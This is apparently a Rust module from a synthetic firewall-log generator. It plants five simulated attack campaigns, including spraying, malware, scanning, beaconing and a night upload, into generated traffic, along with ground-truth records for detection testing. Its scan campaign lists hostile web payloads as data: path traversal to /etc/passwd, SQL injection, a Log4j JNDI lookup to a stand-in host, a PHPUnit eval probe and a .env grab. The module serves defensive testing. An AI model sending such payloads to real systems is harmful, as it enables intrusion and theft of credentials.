//! The five attacks hidden in the traffic, and the truth about them.

use super::fortigate::Flow;
use super::line::Random;
use super::province::Province;
use serde_json::{Value, json};
use std::net::{IpAddr, Ipv4Addr};

/// Outside addresses that only campaigns use; the noise leaves them out.
pub(super) const SPRAYER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
pub(super) const SCANNER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 77);
/// On the list of `rules/layer4/firewall_beaconing_to_listed_address.yml`.
pub(super) const LISTED: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 199);
/// On that list too.
pub(super) const LISTED_TOO: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 99);
pub(super) const DROP_BOX: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 200);

const MINUTE_MS: u64 = 60_000;
/// A shorter window holds no campaign that looks like itself.
pub(super) const WINDOW_MS_MIN: u64 = 5 * MINUTE_MS;

/// One campaign of `--campaigns`.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub(super) enum Campaign {
    /// Many users, one password, then a success: VPN, then sshd
    Spray,
    /// Malware on several computers of one agency
    Malware,
    /// A port scan, then exploits against a portal
    Scan,
    /// Regular connections to a listed address
    Beacon,
    /// Gigabytes leave at night
    Upload,
}

pub(super) const ALL: [Campaign; 5] =
    [Campaign::Spray, Campaign::Malware, Campaign::Scan, Campaign::Beacon, Campaign::Upload];

/// What a planned line says.
pub(super) enum Saying {
    Vpn { user: String, ok: bool },
    Ssh { user: String, ok: bool },
    Found { endpoint: usize },
    FoundOnShare,
    Deny(Flow),
    Accept(Flow),
    Exploit(&'static str),
    Attack(Flow),
}

/// A line and when its unit's device writes it.
pub(super) struct Planned {
    pub(super) at_ms: u64,
    pub(super) unit: usize,
    pub(super) saying: Saying,
}

/// The lines of the campaigns in order of time, and their truth.
#[derive(Default)]
pub(super) struct Plan {
    pub(super) lines: Vec<Planned>,
    pub(super) truth: Vec<Value>,
}

/// The simulated stretch that campaigns are placed in.
#[derive(Clone, Copy)]
pub(super) struct Window {
    pub(super) start_ms: u64,
    pub(super) length_ms: u64,
}

impl Window {
    fn at(self, permille: u64) -> u64 {
        self.start_ms + self.length_ms / 1000 * permille
    }

    /// A natural length, or less where the window is short.
    fn span(self, natural_ms: u64) -> u64 {
        natural_ms.min(self.length_ms / 12)
    }

    /// A moment between 22:00 and 05:00 ICT that leaves time for the upload; past the middle if there is one.
    fn night(self) -> Option<u64> {
        let quiet = |at: &u64| matches!((at / 3_600_000 + 7) % 24, 22 | 23 | 0..=3);
        (550..900).step_by(5).chain((50..550).step_by(5)).map(|permille| self.at(permille)).find(quiet)
    }
}

impl Plan {
    /// Places the wanted campaigns; those that the window cannot hold are returned by name with the reason.
    pub(super) fn new(
        wanted: &[Campaign],
        window: Window,
        province: &Province,
        seed: u64,
    ) -> (Self, Vec<(Campaign, &'static str)>) {
        let mut draft = Draft { plan: Self::default(), window, province, random: Random(seed ^ 0x6361_6d70) };
        let mut left_out = Vec::new();
        for &campaign in wanted {
            if window.length_ms < WINDOW_MS_MIN {
                left_out.push((campaign, "the simulated time is shorter than 5 minutes"));
                continue;
            }
            match campaign {
                Campaign::Spray => draft.spray(),
                Campaign::Malware => draft.malware(),
                Campaign::Scan => draft.scan(),
                Campaign::Beacon => draft.beacon(),
                Campaign::Upload => match window.night() {
                    Some(at) => draft.upload(at),
                    None => left_out.push((campaign, "the simulated time has no night, 22:00 to 05:00 ICT")),
                },
            }
        }
        draft.plan.lines.sort_by_key(|line| line.at_ms);
        (draft.plan, left_out)
    }
}

struct Draft<'p> {
    plan: Plan,
    window: Window,
    province: &'p Province,
    random: Random,
}

impl Draft<'_> {
    fn say(&mut self, at_ms: u64, unit: usize, saying: Saying) {
        self.plan.lines.push(Planned { at_ms, unit, saying });
    }

    /// Writes the truth about every line added since the plan had `from` of them.
    fn tell(&mut self, name: &str, kind: &str, unit: usize, from: usize, entities: &Value, rules: &[&str]) {
        let lines = &self.plan.lines[from..];
        let time = |ms: Option<u64>| ms.map(|ms| event::Time(ms.cast_signed()).to_string());
        self.plan.truth.push(json!({
            "campaign": name,
            "kind": kind,
            "start": time(lines.iter().map(|line| line.at_ms).min()),
            "end": time(lines.iter().map(|line| line.at_ms).max()),
            "unit": self.province.units[unit].id,
            "entities": entities,
            "lines": lines.len(),
            "expected_rules_hint": rules,
        }));
    }

    fn flow(&mut self, source: Ipv4Addr, destination: Ipv4Addr, port: u16, inbound: bool) -> Flow {
        Flow {
            source: IpAddr::V4(source),
            source_port: self.random.port(),
            destination: IpAddr::V4(destination),
            destination_port: port,
            sent: 312,
            received: 540,
            seconds: 1,
            inbound,
        }
    }

    fn spray(&mut self) {
        const UNIT: usize = 5;
        let (from, rounds) = (self.plan.lines.len(), 3);
        let users: Vec<String> =
            self.province.units[UNIT].endpoints.iter().take(12).map(|at| at.user.clone()).collect();
        let (start, span) = (self.window.at(150), self.window.span(4 * MINUTE_MS));
        let attempts = (users.len() * rounds) as u64;
        for (attempt, user) in (0..attempts).zip(users.iter().cycle()) {
            let at = start + span * attempt / attempts;
            let user = user.clone();
            let vpn = attempt < users.len() as u64;
            let ok = false;
            self.say(at, UNIT, if vpn { Saying::Vpn { user, ok } } else { Saying::Ssh { user, ok } });
        }
        self.say(start + span, UNIT, Saying::Ssh { user: users[7].clone(), ok: true });
        let server = &self.province.devices[self.province.units[UNIT].server].name;
        let entities = json!({"source_ip": [SPRAYER], "users": users, "hosts": [server]});
        self.tell(
            "password-spraying",
            "spray",
            UNIT,
            from,
            &entities,
            &["ssh password spraying", "success after failures"],
        );
    }

    fn malware(&mut self) {
        const UNIT: usize = 8;
        let from = self.plan.lines.len();
        let (start, span) = (self.window.at(350), self.window.span(6 * MINUTE_MS));
        for (at, endpoint) in (0u64..).zip(0..5) {
            self.say(start + span * at / 6, UNIT, Saying::Found { endpoint });
        }
        self.say(start + span, UNIT, Saying::FoundOnShare);
        let unit = &self.province.units[UNIT];
        let hit = unit.endpoints.iter().take(5);
        let mut hosts: Vec<&str> = hit.clone().map(|at| &*at.name).collect();
        hosts.push(&self.province.devices[unit.share].name);
        let addresses: Vec<Ipv4Addr> = hit.clone().map(|at| at.address).collect();
        let users: Vec<&str> = hit.map(|at| &*at.user).collect();
        let entities = json!({"source_ip": addresses, "users": users, "hosts": hosts});
        self.tell(
            "malware-outbreak",
            "malware",
            UNIT,
            from,
            &entities,
            &["malware found", "malware on several hosts"],
        );
    }

    fn scan(&mut self) {
        const UNIT: usize = 2;
        const PORTS: u16 = 60;
        const EXPLOITS: [&str; 6] = [
            "GET /index.php?page=../../../../etc/passwd",
            "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
            "GET /search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
            "GET /?x=${jndi:ldap://198.51.100.77:1389/a}",
            "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "GET /.env",
        ];
        let from = self.plan.lines.len();
        let unit = &self.province.units[UNIT];
        // A department has systems and so a portal; its server stands in otherwise.
        let portal = &self.province.devices[unit.portal.unwrap_or(unit.server)];
        let (start, span) = (self.window.at(500), self.window.span(3 * MINUTE_MS));
        for at in 0..PORTS {
            let flow = self.flow(SCANNER, portal.address, 20 + at * 137, true);
            self.say(start + span / 2 * u64::from(at) / u64::from(PORTS), UNIT, Saying::Deny(flow));
        }
        for (at, exploit) in (0u64..).zip(EXPLOITS) {
            self.say(start + span / 2 + span / 12 * at, UNIT, Saying::Exploit(exploit));
        }
        let flow = self.flow(SCANNER, portal.address, 443, true);
        self.say(start + span, UNIT, Saying::Attack(flow));
        let entities = json!({"source_ip": [SCANNER], "users": [], "hosts": [portal.name], "destination_ip": [portal.address]});
        self.tell(
            "scan-and-exploit",
            "scan",
            UNIT,
            from,
            &entities,
            &["port scan", "web exploit", "ips alert"],
        );
    }

    fn beacon(&mut self) {
        const UNIT: usize = 12;
        let from = self.plan.lines.len();
        let endpoint = &self.province.units[UNIT].endpoints[3];
        let interval = MINUTE_MS.min(self.window.length_ms / 40);
        let mut at = self.window.at(50);
        while at < self.window.at(950) {
            let jitter = self.random.below(interval / 50 + 1);
            let flow = self.flow(endpoint.address, LISTED, 443, false);
            self.say(at + jitter, UNIT, Saying::Accept(flow));
            at += interval;
        }
        let entities = json!({
            "source_ip": [endpoint.address], "users": [], "hosts": [endpoint.name], "destination_ip": [LISTED],
        });
        self.tell("beaconing", "beacon", UNIT, from, &entities, &["listed address", "beaconing"]);
    }

    fn upload(&mut self, start: u64) {
        const UNIT: usize = 4;
        let from = self.plan.lines.len();
        let endpoint = &self.province.units[UNIT].endpoints[9];
        let span = self.window.span(15 * MINUTE_MS);
        for at in 0..3 {
            let flow = self.flow(endpoint.address, DROP_BOX, 443, false);
            let sent = 2_600_000_000 + self.random.below(900_000_000);
            let flow = Flow { sent, received: 41_000_000, seconds: span / 3000, ..flow };
            self.say(start + span * at / 3, UNIT, Saying::Accept(flow));
        }
        let entities = json!({
            "source_ip": [endpoint.address], "users": [], "hosts": [endpoint.name], "destination_ip": [DROP_BOX],
        });
        self.tell("night-upload", "upload", UNIT, from, &entities, &["large upload at night"]);
    }
}
